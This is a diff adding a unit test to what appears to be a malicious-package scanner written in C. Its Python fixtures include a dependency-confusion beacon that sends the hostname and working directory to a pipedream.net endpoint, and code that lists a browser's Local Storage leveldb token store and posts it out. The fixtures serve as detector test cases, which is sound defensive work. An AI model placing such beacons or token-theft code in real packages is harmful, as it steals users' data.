@@ -301,6 +301,48 @@ static void test_rules_behave__self_attribute_taint(void **state)
 		-1);
 }
 
+/* A dependency-confusion beacon in a method nobody calls at import stays
+ * high; token stores read in one function and posted from another. */
+static void test_rules_behave__beacon_and_stores(void **state)
+{
+	(void)state;
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/calc.py",
+			 "import os, socket, requests\n"
+			 "class calc:\n"
+			 "    def add(x, y):\n"
+			 "        p = {'h': socket.gethostname(), 'cwd': os.getcwd()}\n"
+			 "        requests.get('https://x.m.pipedream.net/', params=p)\n"
+			 "        return x + y\n",
+			 LG_RULE_NET_EXFIL),
+		LG_SEV_HIGH);
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/calc.py",
+			 "import os, socket, requests\n"
+			 "class calc:\n"
+			 "    def add(x, y):\n"
+			 "        p = {'h': socket.gethostname()}\n"
+			 "        requests.get('https://telemetry.example.invalid/', params=p)\n",
+			 LG_RULE_NET_EXFIL),
+		LG_SEV_MEDIUM);
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/__init__.py",
+			 "import os\n"
+			 "from urllib.request import Request, urlopen\n"
+			 "def find(path):\n"
+			 "    return os.listdir(path + '\\\\Local Storage\\\\leveldb')\n"
+			 "def main():\n"
+			 "    urlopen(Request(URL, data=str(find(P)).encode()))\n",
+			 LG_RULE_BROWSER_DB),
+		LG_SEV_HIGH);
+	/* near miss: the store is named, nothing in the file sends */
+	assert_true(scan_sev("pkg-1.0/pkg/prof.py",
+			     "import os\n"
+			     "def find(path):\n"
+			     "    return os.listdir(path + '/Local Storage/leveldb')\n",
+			     LG_RULE_BROWSER_DB) < (int)LG_SEV_MEDIUM);
+}
+
 /* ---- cred.runtime-stealer ------------------------------------------------ */
 
 static void test_rules_behave__runtime_stealer(void **state)
@@ -1118,6 +1160,7 @@ int test_rules_behave_group(void)
 		cmocka_unit_test(test_rules_behave__download_exec),
 		cmocka_unit_test(test_rules_behave__self_attribute_taint),
 		cmocka_unit_test(test_rules_behave__runtime_stealer),
+		cmocka_unit_test(test_rules_behave__beacon_and_stores),
 		cmocka_unit_test(test_rules_behave__import_process),
 		cmocka_unit_test(test_rules_behave__import_process_near_misses),
 		cmocka_unit_test(test_rules_behave__download_script),
